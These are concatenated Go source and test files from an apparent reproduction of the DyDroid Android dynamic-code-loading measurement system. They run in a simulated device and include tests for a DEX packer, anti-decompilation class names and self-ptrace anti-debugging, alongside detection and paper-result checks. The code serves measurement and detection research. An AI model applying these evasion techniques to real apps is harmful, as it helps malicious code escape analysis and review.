	a := plainApp(t, "com.example.reader")
	o1, err := LexicalRename(a)
	if err != nil {
		t.Fatal(err)
	}
	o2, err := LexicalRename(a)
	if err != nil {
		t.Fatal(err)
	}
	if string(o1.Dex) != string(o2.Dex) {
		t.Fatal("LexicalRename is not deterministic")
	}
}

func TestNameSeq(t *testing.T) {
	s := newNameSeq()
	got := []string{}
	for i := 0; i < 30; i++ {
		got = append(got, s.next())
	}
	if got[0] != "a" || got[25] != "z" || got[26] != "aa" || got[27] != "ab" {
		t.Fatalf("nameSeq = %v", got[:28])
	}
}

func TestPackDetected(t *testing.T) {
	a := plainApp(t, "com.tv.remote")
	packed, err := Pack(a, 0x5a)
	if err != nil {
		t.Fatal(err)
	}
	rep := analyze(t, packed)
	if !rep.DEXEncryption {
		t.Fatalf("packed app not detected: %+v", rep)
	}
	if !rep.Native {
		t.Fatal("packed app must report native code (the decryptor)")
	}
}

func TestPackedAppStillRuns(t *testing.T) {
	a := plainApp(t, "com.tv.remote")
	packed, err := Pack(a, 0x5a)
	if err != nil {
		t.Fatal(err)
	}
	dev := android.NewDevice()
	app, err := dev.Packages.Install(packed)
	if err != nil {
		t.Fatal(err)
	}
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.LaunchApp(); err != nil {
		t.Fatalf("packed app crashed: %v", err)
	}
	// The decrypted payload must exist and decode to the ORIGINAL dex.
	plain, err := dev.Storage.ReadFile("/data/data/com.tv.remote/cache/app.dex")
	if err != nil {
		t.Fatalf("decrypted payload missing: %v", err)
	}
	if string(plain) != string(a.Dex) {
		t.Fatal("native decryptor produced wrong plaintext")
	}
	// And the original activity code actually ran (sentinel static).
	loaders := m.Loaders()
	if len(loaders) != 1 {
		t.Fatalf("loaders = %d, want 1", len(loaders))
	}
	if _, ok := loaders[0].Classes()["com.tv.remote.MainActivity"]; !ok {
		t.Fatal("original activity not registered by the container's loader")
	}
}

func TestPackedStaticAnalysisSeesNoOriginalCode(t *testing.T) {
	a := plainApp(t, "com.tv.remote")
	packed, err := Pack(a, 0x21)
	if err != nil {
		t.Fatal(err)
	}
	df, err := dex.Decode(packed.Dex)
	if err != nil {
		t.Fatal(err)
	}
	if df.FindClass("com.tv.remote.MainActivity") != nil {
		t.Fatal("original class visible in shipped dex")
	}
	if df.FindClass(StubAppClass) == nil {
		t.Fatal("stub container missing")
	}
	// The encrypted asset must not decode as SDEX.
	if _, err := dex.Decode(packed.Assets[PayloadAsset]); err == nil {
		t.Fatal("payload asset is not encrypted")
	}
}

func TestPackValidation(t *testing.T) {
	if _, err := Pack(&apk.APK{Manifest: apk.Manifest{Package: "x.y"}}, 1); err == nil {
		t.Fatal("Pack accepted app without dex")
	}
	if _, err := Pack(plainApp(t, "a.b"), 0); err == nil {
		t.Fatal("Pack accepted zero key")
	}
}

func TestAntiDecompilationTransform(t *testing.T) {
	a := plainApp(t, "com.example.ad")
	ob, err := AddAntiDecompilation(a)
	if err != nil {
		t.Fatal(err)
	}
	rep := analyze(t, ob)
	if !rep.AntiDecompile {
		t.Fatalf("anti-decompilation not reported: %+v", rep)
	}
	// The fixed decompiler version handles it and reports other flags.
	data, err := apk.Build(ob)
	if err != nil {
		t.Fatal(err)
	}
	d := Detector{Tool: apktool.Tool{Version: apktool.FixedVersion}}
	rep2, err := d.Analyze(data)
	if err != nil {
		t.Fatal(err)
	}
	if rep2.AntiDecompile {
		t.Fatal("fixed decompiler still reports anti-decompilation")
	}
	// The app still runs: the decoy is never executed.
	dev := android.NewDevice()
	app, err := dev.Packages.Install(ob)
	if err != nil {
		t.Fatal(err)
	}
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.LaunchApp(); err != nil {
		t.Fatalf("anti-decompilation app crashed: %v", err)
	}
}

func TestReflectionDetection(t *testing.T) {
	pkg := "com.example.refl"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.ConstString(1, "com.example.refl.Hidden").
		InvokeStatic(dex.MethodRef{Class: "java.lang.Class", Name: "forName",
			Sig: "(Ljava/lang/String;)Ljava/lang/Class;"}, 1).
		ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	rep := analyze(t, a)
	if !rep.Reflection {
		t.Fatalf("reflection not detected: %+v", rep)
	}
}

func TestPreFilter(t *testing.T) {
	// DCL app.
	pkg := "com.example.dcl"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "dalvik.system.DexClassLoader").ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	u, err := (apktool.Tool{}).Unpack(data)
	if err != nil {
		t.Fatal(err)
	}
	f := PreFilter(u)
	if !f.HasDexDCL || f.HasNativeDCL {
		t.Fatalf("PreFilter = %+v", f)
	}

	// Plain app has neither.
	u2data, err := apk.Build(plainApp(t, "com.example.plain"))
	if err != nil {
		t.Fatal(err)
	}
	u2, err := (apktool.Tool{}).Unpack(u2data)
	if err != nil {
		t.Fatal(err)
	}
	f2 := PreFilter(u2)
	if f2.HasDexDCL || f2.HasNativeDCL {
		t.Fatalf("plain app PreFilter = %+v", f2)
	}
}

func TestDetectorReportHas(t *testing.T) {
	r := Report{Lexical: true, Native: true}
	if !r.Has(TechLexical) || !r.Has(TechNative) || r.Has(TechReflection) ||
		r.Has(TechDEXEncryption) || r.Has(TechAntiDecompile) || r.Has("bogus") {
		t.Fatalf("Report.Has inconsistent: %+v", r)
	}
	if len(AllTechniques) != 5 {
		t.Fatal("AllTechniques must list the 5 Table VI rows")
	}
}

func TestPackWithAntiDebug(t *testing.T) {
	a := plainApp(t, "com.guarded.app")
	packed, err := Pack(a, 0x31, WithAntiDebug())
	if err != nil {
		t.Fatal(err)
	}
	dev := android.NewDevice()
	app, err := dev.Packages.Install(packed)
	if err != nil {
		t.Fatal(err)
	}
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.LaunchApp(); err != nil {
		t.Fatalf("guarded packed app crashed: %v", err)
	}
	// The container self-ptraced three times before decrypting.
	evs := dev.PtraceEvents()
	if len(evs) != 3 {
		t.Fatalf("ptrace events = %d, want 3: %+v", len(evs), evs)
	}
	for _, ev := range evs {
		if ev.TracerPkg != "com.guarded.app" || ev.TraceePkg != "com.guarded.app" {
			t.Fatalf("non-self ptrace: %+v", ev)
		}
	}
	// Decryption still happened: the original code loaded.
	if !dev.Storage.Exists("/data/data/com.guarded.app/cache/app.dex") {
		t.Fatal("payload not decrypted")
	}
	// Still detected as DEX encryption.
	rep := analyze(t, packed)
	if !rep.DEXEncryption {
		t.Fatalf("guarded packer not detected: %+v", rep)
	}
}
