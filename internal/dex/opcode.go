package dex

// Opcode identifies an SDEX instruction. The set is a compact subset of the
// Dalvik instruction set: enough to express the control and data flow the
// paper's analyses depend on (const-string pools, invokes with symbolic
// refs, field access, arithmetic, comparisons, branches).
type Opcode uint8

// Instruction opcodes.
const (
	OpNop Opcode = iota
	// OpConst loads an integer constant: vA = Value.
	OpConst
	// OpConstString loads a string literal: vA = Str.
	OpConstString
	// OpMove copies a register: vA = vB.
	OpMove
	// OpMoveResult captures the result of the preceding invoke: vA = result.
	OpMoveResult
	// OpNewInstance allocates an object of class Str (Java binary name):
	// vA = new Str.
	OpNewInstance
	// OpNewArray allocates an array of length vB: vA = new [Str](vB).
	OpNewArray
	// OpInvokeVirtual calls Method with receiver Args[0] and the remaining
	// Args as parameters.
	OpInvokeVirtual
	// OpInvokeDirect calls a constructor or private method.
	OpInvokeDirect
	// OpInvokeStatic calls a static method; all Args are parameters.
	OpInvokeStatic
	// OpInvokeInterface calls through an interface.
	OpInvokeInterface
	// OpIGet reads an instance field: vA = vB.Field.
	OpIGet
	// OpIPut writes an instance field: vB.Field = vA.
	OpIPut
	// OpSGet reads a static field: vA = Field.
	OpSGet
	// OpSPut writes a static field: Field = vA.
	OpSPut
	// OpAdd, OpSub, OpMul, OpDiv, OpXor: vA = vB op vC.
	OpAdd
	OpSub
	OpMul
	OpDiv
	OpXor
	// OpIfEq branches to Target when vA == vB.
	OpIfEq
	// OpIfNe branches to Target when vA != vB.
	OpIfNe
	// OpIfLt branches to Target when vA < vB.
	OpIfLt
	// OpIfGe branches to Target when vA >= vB.
	OpIfGe
	// OpIfEqz branches to Target when vA == 0.
	OpIfEqz
	// OpIfNez branches to Target when vA != 0.
	OpIfNez
	// OpGoto branches unconditionally to Target.
	OpGoto
	// OpReturn returns vA.
	OpReturn
	// OpReturnVoid returns with no value.
	OpReturnVoid
	// OpThrow raises vA as an exception.
	OpThrow
	// OpArrayGet reads an array element: vA = vB[vC].
	OpArrayGet
	// OpArrayPut writes an array element: vB[vC] = vA.
	OpArrayPut
	// OpArrayLength reads an array length: vA = len(vB).
	OpArrayLength
	// OpCheckCast asserts vA is of class Str (no-op at runtime here, kept
	// for pattern fidelity).
	OpCheckCast
	// OpInstanceOf tests vB against class Str: vA = 0/1.
	OpInstanceOf

	opMax // sentinel; must remain last
)

var opNames = [...]string{
	OpNop:             "nop",
	OpConst:           "const",
	OpConstString:     "const-string",
	OpMove:            "move",
	OpMoveResult:      "move-result",
	OpNewInstance:     "new-instance",
	OpNewArray:        "new-array",
	OpInvokeVirtual:   "invoke-virtual",
	OpInvokeDirect:    "invoke-direct",
	OpInvokeStatic:    "invoke-static",
	OpInvokeInterface: "invoke-interface",
	OpIGet:            "iget",
	OpIPut:            "iput",
	OpSGet:            "sget",
	OpSPut:            "sput",
	OpAdd:             "add-int",
	OpSub:             "sub-int",
	OpMul:             "mul-int",
	OpDiv:             "div-int",
	OpXor:             "xor-int",
	OpIfEq:            "if-eq",
	OpIfNe:            "if-ne",
	OpIfLt:            "if-lt",
	OpIfGe:            "if-ge",
	OpIfEqz:           "if-eqz",
	OpIfNez:           "if-nez",
	OpGoto:            "goto",
	OpReturn:          "return",
	OpReturnVoid:      "return-void",
	OpThrow:           "throw",
	OpArrayGet:        "aget",
	OpArrayPut:        "aput",
	OpArrayLength:     "array-length",
	OpCheckCast:       "check-cast",
	OpInstanceOf:      "instance-of",
}

// String returns the smali mnemonic for the opcode.
func (o Opcode) String() string {
	if int(o) < len(opNames) && opNames[o] != "" {
		return opNames[o]
	}
	return "op?"
}

// Valid reports whether the opcode is a defined instruction.
func (o Opcode) Valid() bool { return o < opMax }

// IsInvoke reports whether the opcode is any invoke variant.
func (o Opcode) IsInvoke() bool {
	switch o {
	case OpInvokeVirtual, OpInvokeDirect, OpInvokeStatic, OpInvokeInterface:
		return true
	}
	return false
}

// IsBranch reports whether the opcode carries a branch target.
func (o Opcode) IsBranch() bool {
	switch o {
	case OpIfEq, OpIfNe, OpIfLt, OpIfGe, OpIfEqz, OpIfNez, OpGoto:
		return true
	}
	return false
}

// IsConditional reports whether the opcode is a conditional branch.
func (o Opcode) IsConditional() bool {
	return o.IsBranch() && o != OpGoto
}

// IsTerminator reports whether control never falls through the opcode.
func (o Opcode) IsTerminator() bool {
	switch o {
	case OpGoto, OpReturn, OpReturnVoid, OpThrow:
		return true
	}
	return false
}

// Instruction is a single SDEX instruction. Operand meaning depends on the
// opcode (see the opcode doc comments). Unused operands are zero values.
type Instruction struct {
	Op     Opcode
	A      int       // first register operand
	B      int       // second register operand
	C      int       // third register operand
	Value  int64     // integer immediate (OpConst)
	Str    string    // string/class operand (const-string, new-instance, ...)
	Method MethodRef // invoke target
	Field  FieldRef  // field access target
	Target int       // branch target (instruction index)
	Args   []int     // invoke argument registers
}

// appendRegistersUsed appends the registers referenced by the
// instruction to buf and returns it. The append-into-buffer shape lets
// Validate reuse one scratch slice across an entire file instead of
// allocating per instruction (formerly the single largest allocation
// site in Encode/Decode).
func (in *Instruction) appendRegistersUsed(buf []int) []int {
	switch in.Op {
	case OpNop, OpGoto, OpReturnVoid:
		return buf
	case OpConst, OpConstString, OpMoveResult, OpNewInstance, OpSGet, OpSPut,
		OpIfEqz, OpIfNez, OpReturn, OpThrow, OpCheckCast:
		return append(buf, in.A)
	case OpMove, OpNewArray, OpIGet, OpIPut, OpIfEq, OpIfNe, OpIfLt, OpIfGe,
		OpArrayLength, OpInstanceOf:
		return append(buf, in.A, in.B)
	case OpAdd, OpSub, OpMul, OpDiv, OpXor, OpArrayGet, OpArrayPut:
		return append(buf, in.A, in.B, in.C)
	default:
		if in.Op.IsInvoke() {
			return append(buf, in.Args...)
		}
		return buf
	}
}
