// Package apktool is the reverse-engineering toolchain analogue
// (baksmali/apktool): it unpacks an APK, decompiles classes.dex into the
// smali IR, and repacks rewritten apps (DyDroid injects
// WRITE_EXTERNAL_STORAGE so its on-device logs can be written).
//
// Two deliberate failure modes mirror the measurement reality:
//
//   - anti-decompilation: Dalvik accepts class names that are not valid
//     Java identifiers; Tool versions below FixedVersion crash on them
//     (the "implementation bug" of §III-D that 54 apps in Table VI
//     exploit);
//   - anti-repackaging: archives carrying the anti-repack marker defeat
//     the rewriter, producing the "Rewriting failure" rows of Table II.
package apktool

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"unicode"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
)

// Tool versions.
const (
	// BuggyVersion is the decompiler release with the anti-decompilation
	// bug, used for the paper-time measurement.
	BuggyVersion = 1
	// FixedVersion handles hostile class names.
	FixedVersion = 2
)

// Errors.
var (
	// ErrDecompile marks a decompiler crash (anti-decompilation or a
	// corrupted dex).
	ErrDecompile = errors.New("apktool: decompilation failed")
	// ErrRepack marks a rewriter failure (anti-repackaging).
	ErrRepack = errors.New("apktool: repackaging failed")
)

// Tool is one apktool installation.
type Tool struct {
	// Version selects decompiler behaviour; zero means BuggyVersion.
	Version int
}

func (t Tool) version() int {
	if t.Version == 0 {
		return BuggyVersion
	}
	return t.Version
}

// Unpacked is the result of unpacking and decompiling an APK.
type Unpacked struct {
	APK *apk.APK
	// Dex is the decoded bytecode, nil when the app ships none.
	Dex *dex.File

	smaliOnce sync.Once
	smali     map[string]string
}

// Smali returns the per-class smali IR text, disassembling on first use.
// The measurement pipeline only needs the decoded bytecode, so the
// (string-heavy) disassembly is deferred until a caller — apkinspect, the
// examples — actually asks for source.
func (u *Unpacked) Smali() map[string]string {
	u.smaliOnce.Do(func() {
		if u.Dex == nil {
			u.smali = make(map[string]string)
			return
		}
		u.smali = dex.Disassemble(u.Dex)
	})
	return u.smali
}

// Unpack parses the archive and decompiles its bytecode. Smali text is
// produced lazily via Unpacked.Smali.
func (t Tool) Unpack(data []byte) (*Unpacked, error) {
	a, err := apk.Parse(data)
	if err != nil {
		return nil, fmt.Errorf("apktool: unpack: %w", err)
	}
	return t.UnpackParsed(a)
}

// UnpackParsed decompiles an already-parsed archive, sharing the parsed
// object (no copy): the single-parse pipeline hands the same *apk.APK to
// the rewrite and dynamic stages afterwards.
func (t Tool) UnpackParsed(a *apk.APK) (*Unpacked, error) {
	u := &Unpacked{APK: a}
	if a.Dex == nil {
		return u, nil
	}
	df, err := dex.Decode(a.Dex)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrDecompile, err)
	}
	if t.version() < FixedVersion {
		for _, c := range df.Classes {
			if hostileClassName(c.Name) {
				return nil, fmt.Errorf("%w: invalid identifier in class %q (anti-decompilation)",
					ErrDecompile, c.Name)
			}
		}
	}
	u.Dex = df
	return u, nil
}

// hostileClassName reports whether the class's simple name is not a valid
// Java identifier — Dalvik runs it, old decompilers choke on it.
func hostileClassName(name string) bool {
	simple := name
	if i := strings.LastIndexByte(name, '.'); i >= 0 {
		simple = name[i+1:]
	}
	if simple == "" {
		return true
	}
	r := rune(simple[0])
	return unicode.IsDigit(r) || r == '-'
}

// Repack rewrites the app, adding WRITE_EXTERNAL_STORAGE to the manifest
// when absent, and rebuilds/re-signs the archive. Archives protected by
// the anti-repackaging marker fail.
func (t Tool) Repack(data []byte) ([]byte, error) {
	a, err := apk.Parse(data)
	if err != nil {
		return nil, fmt.Errorf("apktool: repack: %w", err)
	}
	cp, err := t.RepackParsed(a)
	if err != nil {
		return nil, err
	}
	out, err := apk.Build(cp)
	if err != nil {
		return nil, fmt.Errorf("apktool: repack: %w", err)
	}
	return out, nil
}

// RepackParsed is the parse-once rewrite path: it performs the same
// anti-repackaging check and permission injection as Repack on an
// already-parsed package, returning a rewritten deep copy without
// serializing. Callers that need archive bytes (installers, digests)
// apk.Build the result themselves — once, instead of per stage.
func (t Tool) RepackParsed(a *apk.APK) (*apk.APK, error) {
	if a.HasAntiRepack() {
		return nil, fmt.Errorf("%w: archive is protected against repackaging", ErrRepack)
	}
	cp := a.Clone()
	cp.Manifest.AddPermission(apk.WriteExternalStorage)
	return cp, nil
}
