package bench

import (
	"path/filepath"
	"reflect"
	"testing"
)

func sampleResult() *Result {
	return &Result{
		Schema:            SchemaVersion,
		Name:              "sample",
		Seed:              2016,
		Scale:             0.02,
		Workers:           4,
		Cores:             8,
		Apps:              1183,
		Statuses:          map[string]int{"exercised": 909, "no-dcl": 254},
		ElapsedNS:         689411240,
		AppsPerSec:        1715.95,
		AppsPerSecPerCore: 214.49,
		AllocsPerApp:      1602,
		AllocBytesPerApp:  264448,
		Stages: []StageResult{
			{Name: "dynamic", Count: 916, P50NS: 216000, P95NS: 1022000, P99NS: 1342000},
			{Name: "unpack", Count: 1183, P50NS: 58000, P95NS: 220000, P99NS: 292000},
		},
	}
}

func TestResultJSONRoundTrip(t *testing.T) {
	want := sampleResult()
	path := filepath.Join(t.TempDir(), "BENCH_test.json")
	if err := want.WriteFile(path); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("round-trip mismatch:\n got %+v\nwant %+v", got, want)
	}
}

func TestReadFileRejectsNewerSchema(t *testing.T) {
	r := sampleResult()
	r.Schema = SchemaVersion + 1
	path := filepath.Join(t.TempDir(), "BENCH_future.json")
	if err := r.WriteFile(path); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if _, err := ReadFile(path); err == nil {
		t.Error("ReadFile accepted a result with a newer schema version")
	}
}

func TestDiffFlagsRegressions(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	// Throughput down 50%, dynamic p95 up 2x, allocs up 2x: all regressions.
	head.AppsPerSec = base.AppsPerSec / 2
	head.AllocsPerApp = base.AllocsPerApp * 2
	head.Stages[0].P95NS = base.Stages[0].P95NS * 2

	regs := Diff(base, head, 15)
	got := make(map[string]bool, len(regs))
	for _, g := range regs {
		got[g.Metric] = true
	}
	for _, want := range []string{"apps_per_sec", "allocs_per_app", "stage.dynamic.p95"} {
		if !got[want] {
			t.Errorf("Diff missed regression %q (got %v)", want, regs)
		}
	}
	// Unchanged metrics must not be flagged.
	for _, never := range []string{"stage.unpack.p95", "stage.dynamic.p50", "alloc_bytes_per_app"} {
		if got[never] {
			t.Errorf("Diff flagged unchanged metric %q", never)
		}
	}
}

func TestDiffDirectionAware(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	// Improvements in both directions: throughput up, latency and allocs
	// down. None may be flagged.
	head.AppsPerSec = base.AppsPerSec * 2
	head.AllocsPerApp = base.AllocsPerApp / 2
	head.Stages[0].P95NS = base.Stages[0].P95NS / 2
	if regs := Diff(base, head, 15); len(regs) != 0 {
		t.Errorf("Diff flagged improvements as regressions: %v", regs)
	}
}

func TestDiffRespectsThreshold(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	head.AppsPerSec = base.AppsPerSec * 0.90 // -10%
	if regs := Diff(base, head, 15); len(regs) != 0 {
		t.Errorf("-10%% flagged under a 15%% threshold: %v", regs)
	}
	if regs := Diff(base, head, 5); len(regs) != 1 {
		t.Errorf("-10%% not flagged under a 5%% threshold: %v", regs)
	}
}

func TestDiffSkipsUnmatchedStages(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	head.Stages = append(head.Stages, StageResult{Name: "brand-new", Count: 1, P95NS: 1 << 40})
	if regs := Diff(base, head, 15); len(regs) != 0 {
		t.Errorf("Diff flagged a stage absent from the baseline: %v", regs)
	}
}

// TestRunDeterministicFingerprint runs the harness twice at smoke scale:
// everything except wall-clock timing must be identical for a fixed seed.
func TestRunDeterministicFingerprint(t *testing.T) {
	cfg := Config{Name: "determinism", Seed: 2016, Scale: 0.002, Workers: 4}
	a, err := Run(cfg)
	if err != nil {
		t.Fatalf("first run: %v", err)
	}
	b, err := Run(cfg)
	if err != nil {
		t.Fatalf("second run: %v", err)
	}
	if !reflect.DeepEqual(a.Fingerprint(), b.Fingerprint()) {
		t.Errorf("fingerprints differ for identical config:\n first %+v\nsecond %+v",
			a.Fingerprint(), b.Fingerprint())
	}
	if a.Apps == 0 || len(a.Stages) == 0 {
		t.Errorf("smoke run produced an empty result: %+v", a)
	}
}
