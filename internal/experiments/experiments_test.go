package experiments

import (
	"sort"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/core"
)

// runSmall executes one measurement at a small scale, shared across tests.
var cachedResults *Results

func small(t *testing.T) *Results {
	t.Helper()
	if cachedResults != nil {
		return cachedResults
	}
	res, err := Run(Config{Seed: 11, Scale: 0.004, Workers: 4})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	cachedResults = res
	return res
}

func TestRunProducesRecordForEveryApp(t *testing.T) {
	res := small(t)
	if len(res.Records) == 0 {
		t.Fatal("no records")
	}
	for i, rec := range res.Records {
		if rec == nil || rec.Result == nil {
			t.Fatalf("record %d missing", i)
		}
		if rec.Result.Status == "" {
			t.Fatalf("record %d has no status", i)
		}
	}
}

func TestTableIIShape(t *testing.T) {
	res := small(t)
	var dexCand, dexInt, natCand, natInt int
	for _, rec := range res.Records {
		if dexCandidate(rec) {
			dexCand++
			if dexIntercepted(rec) {
				dexInt++
			}
		}
		if nativeCandidate(rec) {
			natCand++
			if nativeIntercepted(rec) {
				natInt++
			}
		}
	}
	// Shape assertions from the paper: candidates dominate the corpus but
	// interception is a strict subset; DEX candidates > native candidates.
	if dexCand <= natCand {
		t.Fatalf("dex candidates %d <= native candidates %d", dexCand, natCand)
	}
	if dexInt == 0 || natInt == 0 {
		t.Fatalf("no interceptions: dex=%d native=%d", dexInt, natInt)
	}
	if dexInt >= dexCand || natInt >= natCand {
		t.Fatalf("interception not a strict subset: %d/%d, %d/%d", dexInt, dexCand, natInt, natCand)
	}
	// Interception rates should be in the paper's ballpark (41%/54%).
	dexRate := float64(dexInt) / float64(dexCand)
	natRate := float64(natInt) / float64(natCand)
	if dexRate < 0.25 || dexRate > 0.60 {
		t.Fatalf("dex interception rate %.2f out of band", dexRate)
	}
	if natRate < 0.35 || natRate > 0.75 {
		t.Fatalf("native interception rate %.2f out of band", natRate)
	}
	if natRate <= dexRate {
		t.Fatalf("paper shape violated: native rate %.2f <= dex rate %.2f", natRate, dexRate)
	}
}

func TestTableIIIShape(t *testing.T) {
	// At tiny scales the fixed 10M-download sample apps dominate group
	// means, so the shape check uses medians, which the generator's group
	// multipliers move directly.
	res := small(t)
	var dexD, nodexD, natD, nonatD []float64
	for _, rec := range res.Records {
		d := float64(rec.Meta.Downloads)
		if dexCandidate(rec) {
			dexD = append(dexD, d)
		} else {
			nodexD = append(nodexD, d)
		}
		if nativeCandidate(rec) {
			natD = append(natD, d)
		} else {
			nonatD = append(nonatD, d)
		}
	}
	if len(dexD) == 0 || len(nodexD) == 0 || len(natD) == 0 || len(nonatD) == 0 {
		t.Fatal("empty popularity groups")
	}
	if median(dexD) <= median(nodexD) {
		t.Fatalf("paper shape violated: DEX median %.0f <= non-DEX median %.0f",
			median(dexD), median(nodexD))
	}
	if median(natD) <= median(nonatD) {
		t.Fatalf("paper shape violated: native median %.0f <= non-native median %.0f",
			median(natD), median(nonatD))
	}
}

func median(xs []float64) float64 {
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	return s[len(s)/2]
}

func TestTableIVShape(t *testing.T) {
	res := small(t)
	var dexThird, dexTotal int
	for _, rec := range res.Records {
		if !dexIntercepted(rec) {
			continue
		}
		dexTotal++
		_, third := rec.Result.Entities(core.KindDex)
		if third {
			dexThird++
		}
	}
	if dexTotal == 0 {
		t.Fatal("no dex interceptions")
	}
	// Paper: over 85% of DCL is initiated by third parties.
	if rate := float64(dexThird) / float64(dexTotal); rate < 0.85 {
		t.Fatalf("third-party rate %.2f < 0.85", rate)
	}
}

func TestTableVFindsRemoteApps(t *testing.T) {
	res := small(t)
	remote := 0
	for _, rec := range res.Records {
		if len(rec.Result.RemoteURLs()) > 0 {
			remote++
			for _, u := range rec.Result.RemoteURLs() {
				if !strings.Contains(u, "mobads.baidu.com") {
					t.Fatalf("unexpected remote origin %s", u)
				}
			}
		}
	}
	if remote == 0 {
		t.Fatal("no remote-fetch apps found")
	}
}

func TestTableVIIMalwareRecovered(t *testing.T) {
	res := small(t)
	families := map[string]int{}
	for _, rec := range res.Records {
		seen := map[string]bool{}
		for _, hit := range rec.Result.Malware {
			if !seen[hit.Family] {
				seen[hit.Family] = true
				families[hit.Family]++
			}
		}
	}
	for _, fam := range []string{"Swiss code monkeys", "Adware airpush minimob", "Chathook ptrace"} {
		if families[fam] == 0 {
			t.Fatalf("family %q not recovered: %+v", fam, families)
		}
	}
	// No other families should fire (the 16 synthetic training families
	// are not planted in the corpus).
	if len(families) != 3 {
		t.Fatalf("unexpected families: %+v", families)
	}
}

func TestTableVIIIGating(t *testing.T) {
	res := small(t)
	totalFiles := 0
	loadedNormally := 0
	suppressedSomewhere := 0
	for _, rec := range res.Records {
		if rec.MalwarePaths == nil {
			continue
		}
		for path := range rec.MalwarePaths {
			totalFiles++
			loadedNormally++
			for _, cfg := range core.AllReplayConfigs {
				if !rec.ReplayLoaded[cfg][path] {
					suppressedSomewhere++
					break
				}
			}
		}
	}
	if totalFiles == 0 {
		t.Fatal("no malicious files")
	}
	if suppressedSomewhere == 0 {
		t.Fatal("no file was gated under any configuration")
	}
}

func TestTableIXVulns(t *testing.T) {
	res := small(t)
	kinds := map[core.VulnKind]int{}
	for _, rec := range res.Records {
		for _, v := range rec.Result.Vulns {
			kinds[v.Kind]++
		}
	}
	if kinds[core.VulnExternalStorage] == 0 || kinds[core.VulnOtherAppInternal] == 0 {
		t.Fatalf("vulnerability kinds missing: %+v", kinds)
	}
}

func TestTableXPrivacy(t *testing.T) {
	res := small(t)
	settings := 0
	withDex := 0
	for _, rec := range res.Records {
		if !dexIntercepted(rec) {
			continue
		}
		withDex++
		if rec.Result.Privacy == nil {
			continue
		}
		for _, dt := range rec.Result.Privacy.LeakedTypes() {
			if string(dt) == "Settings" {
				settings++
			}
		}
	}
	if withDex == 0 {
		t.Fatal("no dex interceptions")
	}
	// Paper shape: the settings row dominates (ad apps read settings).
	if rate := float64(settings) / float64(withDex); rate < 0.5 {
		t.Fatalf("settings rate %.2f too low", rate)
	}
}

func TestReportRenders(t *testing.T) {
	res := small(t)
	report := res.Report()
	for _, want := range []string{
		"Table I", "Table II", "Table III", "Table IV", "Table V",
		"Table VI", "Figure 3", "Table VII", "Table VIII", "Table IX", "Table X",
		"Swiss code monkeys", "DEX encryption",
	} {
		if !strings.Contains(report, want) {
			t.Fatalf("report missing %q", want)
		}
	}
}

func TestRunDeterministicAcrossWorkerCounts(t *testing.T) {
	// The measurement must not depend on scheduling: every per-app result
	// is identical whether the pipeline runs on one worker or eight.
	r1, err := Run(Config{Seed: 21, Scale: 0.002, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	r8, err := Run(Config{Seed: 21, Scale: 0.002, Workers: 8})
	if err != nil {
		t.Fatal(err)
	}
	if len(r1.Records) != len(r8.Records) {
		t.Fatalf("record counts differ: %d vs %d", len(r1.Records), len(r8.Records))
	}
	for i := range r1.Records {
		a, b := r1.Records[i], r8.Records[i]
		if a.Meta.Package != b.Meta.Package ||
			a.Result.Status != b.Result.Status ||
			len(a.Result.Events) != len(b.Result.Events) ||
			len(a.Result.Malware) != len(b.Result.Malware) ||
			len(a.Result.Vulns) != len(b.Result.Vulns) {
			t.Fatalf("record %d differs between worker counts:\n1: %+v\n8: %+v",
				i, a.Result, b.Result)
		}
		for j := range a.Result.Events {
			ea, eb := a.Result.Events[j], b.Result.Events[j]
			if ea.Path != eb.Path || ea.Entity != eb.Entity || ea.Provenance != eb.Provenance {
				t.Fatalf("record %d event %d differs: %+v vs %+v", i, j, ea, eb)
			}
		}
	}
}
