// Package dydroid is the public API of the DyDroid reproduction: a hybrid
// dynamic/static analysis system that measures dynamic code loading (DCL)
// in (simulated) Android applications, after the DSN 2017 paper "DyDroid:
// Measuring Dynamic Code Loading and Its Security Implications in Android
// Applications".
//
// The three entry points most users want:
//
//   - NewAnalyzer / Analyzer.AnalyzeAPK — run the full DyDroid pipeline on
//     one APK: static pre-filter, obfuscation analysis, rewriting,
//     instrumented execution with DCL interception and download tracking,
//     then DroidNative malware matching, vulnerability rules, and
//     FlowDroid-style taint analysis over the intercepted code.
//
//   - GenerateStore — synthesize a marketplace calibrated to the paper's
//     published measurement (58,739 apps at scale 1.0) to run the system
//     against.
//
